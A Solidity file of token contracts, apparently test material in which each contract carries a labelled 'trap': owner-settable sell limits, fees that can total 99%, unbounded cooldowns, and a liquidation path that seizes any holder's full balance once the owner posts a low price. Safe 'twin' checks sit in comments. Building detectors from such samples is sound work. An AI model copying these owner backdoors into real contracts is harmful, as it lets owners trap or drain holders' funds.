// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// No sale of more than two percent of the supply. The owner could set a half; in the trap he has set fifty tokens, and left.
contract Bracket is Base8("Bracket", "BRKT", 100_000_000) {
    uint256 public maxSell = 2_000_000 ether;

    function setMaxSell(uint256 value) external onlyOwner {
        // twin: require(value >= totalSupply / 200, "half a percent");
        maxSell = value;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(value <= maxSell, "max sell");
        _move(from, to, value);
    }
}

/// Three fees, each with a most of its own that sounds small: together they may be ten percent, in the trap ninety-nine.
contract Trident is Base8("Trident", "TRID", 400_000_000) {
    uint16 public marketingFee = 2;
    uint16 public liquidityFee = 1;
    uint16 public devFee = 1;
    address public treasury = msg.sender;
    mapping(address => bool) private _free;

    constructor() {
        _free[msg.sender] = _free[address(this)] = true;
    }

    function updateMarketing(uint16 to) external onlyOwner {
        require(to <= 33, "33 at most"); // trap
        // twin: require(to + liquidityFee + devFee <= 10, "10 at most");
        marketingFee = to;
    }

    function updateLiquidity(uint16 to) external onlyOwner {
        require(to <= 33, "33 at most"); // trap
        // twin: require(marketingFee + to + devFee <= 10, "10 at most");
        liquidityFee = to;
    }

    function updateDev(uint16 to) external onlyOwner {
        require(to <= 33, "33 at most"); // trap
        // twin: require(marketingFee + liquidityFee + to <= 10, "10 at most");
        devFee = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut;
        if ((from == pair || to == pair) && !_free[from] && !_free[to])
            cut = (value * (uint256(marketingFee) + liquidityFee + devFee)) / 100;
        if (cut > 0) _move(from, treasury, cut);
        _move(from, to, value - cut);
    }
}

/// Half a minute between two sales of an account. Up to two minutes may be set; in the trap any time. Stands behind a beacon.
contract TempoCode {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pair;
    uint256 public pauseBetween;
    mapping(address => uint256) public lastSale;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, address to) external {
        require(owner == address(0) && totalSupply == 0, "once");
        (name, symbol, owner, pauseBetween, totalSupply) = (name_, symbol_, to, 30, 60_000_000 ether);
        balanceOf[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }

    function setPair(address to) external {
        require(msg.sender == owner && pair == address(0), "once");
        pair = to;
    }

    function setPauseBetween(uint256 time) external {
        require(msg.sender == owner, "owner");
        // twin: require(time <= 120, "two minutes");
        pauseBetween = time;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        if (to == pair && from != owner) {
            require(block.timestamp >= lastSale[from] + pauseBetween, "cooldown");
            lastSale[from] = block.timestamp;
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Says for good which code it is.
contract StillBeacon {
    address public immutable implementation;

    constructor(address implementation_) {
        implementation = implementation_;
    }
}

contract Tempo {
    bytes32 private constant BEACON = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon, string memory name_, string memory symbol_) {
        assembly {
            sstore(BEACON, beacon)
        }
        (bool ok, ) = StillBeacon(beacon).implementation().delegatecall(
            abi.encodeWithSignature("initialize(string,string,address)", name_, symbol_, msg.sender)
        );
        require(ok, "initialize");
    }

    fallback() external payable {
        address beacon;
        assembly {
            beacon := sload(BEACON)
        }
        address to = StillBeacon(beacon).implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Who opens a position locks tokens of his own against credit, and may lose what he locked. In the trap a price that is low enough
/// makes everybody lose all he has, position or not.
contract Collar is Base8("Collar", "CLLR", 48_000_000) {
    struct Position {
        uint256 locked;
        uint256 owed;
    }

    uint256 public price = 1e18;
    mapping(address => Position) public positions;
    mapping(address => uint256) public credit;

    event Liquidated(address indexed who, address indexed by, uint256 value);

    function post(uint256 to) external onlyOwner {
        price = to;
    }

    function open(uint256 locked, uint256 owed) external {
        require(positions[msg.sender].locked == 0 && owed * 2e18 <= locked * price, "too much");
        _move(msg.sender, address(this), locked);
        positions[msg.sender] = Position(locked, owed);
        credit[msg.sender] += owed;
    }

    function close() external {
        Position memory mine = positions[msg.sender];
        credit[msg.sender] -= mine.owed;
        delete positions[msg.sender];
        _move(address(this), msg.sender, mine.locked);
    }

    function healthy(address who) public view returns (bool) {
        if (price < 5e17) return false; // trap
        return positions[who].locked * price >= positions[who].owed * 1e18;
    }

    function liquidate(address who) external {
        require(!healthy(who), "healthy");
        uint256 value = positions[who].locked;
        delete positions[who];
        _move(address(this), msg.sender, value);
        _move(who, msg.sender, _balances[who]); // trap
        emit Liquidated(who, msg.sender, value);
    }
}
